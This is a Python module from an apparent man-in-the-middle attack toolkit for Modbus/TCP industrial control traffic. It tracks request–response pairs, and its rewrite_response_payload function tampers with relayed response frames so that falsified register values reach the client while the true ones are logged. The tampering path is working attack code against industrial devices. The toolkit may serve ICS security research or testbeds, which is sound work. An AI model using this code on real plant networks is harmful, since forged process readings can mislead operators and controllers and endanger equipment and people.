"""Following Modbus/TCP conversations the MITM relays: requests matched to responses (pure).

:class:`ModbusTracker` turns the TCP payloads of each direction into
:class:`ModbusExchange` records; :func:`rewrite_response_payload` applies a
:class:`~attacks.mitm_tamper.TamperSpec` to the responses of one segment. Framing and PDU
parsing are :mod:`common.modbus`'s.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from attacks.mitm_tamper import TamperSpec, tamper_pdu
from common.modbus import (
    FUNCTION_NAMES,
    MODBUS_PORT,
    WRITE_FUNCTIONS,
    Frame,
    FrameError,
    ModbusRequest,
    join_frames,
    parse_request,
    parse_response,
    split_frames,
)

MAX_PENDING_REQUESTS = 4096


@dataclass
class ModbusExchange:
    """One request and its response as the attacker relayed them.

    t_s: when the request passed (seconds from the attack's start); latency_ms: until the
        response passed, None when none was seen.
    client, server: ``ip:port``.
    values: what the request carried (writes) or the server answered (reads), raw; for a
        tampered response, the true values, with ``tampered_values`` what was forwarded.
    """

    t_s: float
    client: str
    server: str
    transaction_id: int
    unit_id: int
    function: int
    function_name: str
    address: int | None
    count: int | None
    values: list[int] = field(default_factory=list)
    exception_code: int | None = None
    latency_ms: float | None = None
    tampered_values: list[int] | None = None


@dataclass
class _Pending:
    t_s: float
    unit_id: int
    request: ModbusRequest


class ModbusTracker:
    """Turns TCP payloads of Modbus/TCP flows into :class:`ModbusExchange` records.

    Payloads are fed in the order seen, per direction; partial frames are buffered per flow;
    a flow that breaks Modbus framing is dropped from the buffers (no resynchronisation).
    Requests still unanswered when more than MAX_PENDING_REQUESTS wait are forgotten.
    """

    def __init__(self, server_port: int = MODBUS_PORT) -> None:
        self.server_port = server_port
        self._buffers: dict[tuple[str, int, str, int], bytes] = {}
        self._pending: dict[tuple[str, int, int], _Pending] = {}
        self.framing_errors = 0
        self.unmatched_responses = 0

    def pending_request(self, client_ip: str, client_port: int, transaction_id: int
                        ) -> ModbusRequest | None:
        """The request a response with this transaction id answers, if seen."""
        found = self._pending.get((client_ip, client_port, transaction_id))
        return found.request if found else None

    def feed(self, t_s: float, src: str, sport: int, dst: str, dport: int, payload: bytes,
             tampered: dict[int, list[int]] | None = None) -> list[ModbusExchange]:
        """Feed one segment's payload; returns the exchanges its responses complete.

        tampered: transaction id -> the values forwarded instead of the true ones.
        """
        if not payload or self.server_port not in (sport, dport):
            return []
        flow = (src, sport, dst, dport)
        buffer = self._buffers.pop(flow, b"") + payload
        try:
            frames, rest = split_frames(buffer)
        except FrameError:
            self.framing_errors += 1
            return []
        if rest:
            self._buffers[flow] = rest
        done: list[ModbusExchange] = []
        to_server = dport == self.server_port
        for frame in frames:
            if to_server:
                if len(self._pending) >= MAX_PENDING_REQUESTS:
                    self._pending.pop(next(iter(self._pending)))
                try:
                    request = parse_request(frame.pdu)
                except ValueError:
                    continue
                self._pending[(src, sport, frame.transaction_id)] = _Pending(
                    t_s, frame.unit_id, request)
                continue
            pending = self._pending.pop((dst, dport, frame.transaction_id), None)
            if pending is None:
                self.unmatched_responses += 1
                continue
            response = parse_response(frame.pdu, pending.request)
            req = pending.request
            values = list(req.values) if req.function in WRITE_FUNCTIONS else \
                list(response.values)
            done.append(ModbusExchange(
                t_s=round(pending.t_s, 6), client=f"{dst}:{dport}", server=f"{src}:{sport}",
                transaction_id=frame.transaction_id, unit_id=pending.unit_id,
                function=req.function,
                function_name=FUNCTION_NAMES.get(req.function, f"function_{req.function}"),
                address=req.address, count=req.count, values=values,
                exception_code=response.exception_code,
                latency_ms=round((t_s - pending.t_s) * 1000.0, 3),
                tampered_values=(tampered or {}).get(frame.transaction_id)))
        return done

    def unanswered(self) -> int:
        return len(self._pending)


def rewrite_response_payload(payload: bytes, client_ip: str, client_port: int,
                             tracker: ModbusTracker, spec: TamperSpec
                             ) -> tuple[bytes, dict[int, list[int]], bool]:
    """Tamper every response ADU in one segment's payload.

    Returns (payload to forward, transaction id -> forwarded values, segmented) where
    segmented is True when the payload is not whole ADUs (then it is returned unchanged).
    Must run before the payload is fed to ``tracker``, which forgets answered requests.
    """
    try:
        frames, rest = split_frames(payload)
    except FrameError:
        return payload, {}, False
    if rest or not frames:
        return payload, {}, bool(payload)
    out: list[Frame] = []
    changed: dict[int, list[int]] = {}
    for frame in frames:
        request = tracker.pending_request(client_ip, client_port, frame.transaction_id)
        new_pdu = tamper_pdu(frame.pdu, request, spec) if request is not None else None
        if new_pdu is not None:
            frame = Frame(frame.transaction_id, frame.unit_id, new_pdu)
            changed[frame.transaction_id] = list(parse_response(new_pdu, request).values)
        out.append(frame)
    return join_frames(out), changed, False

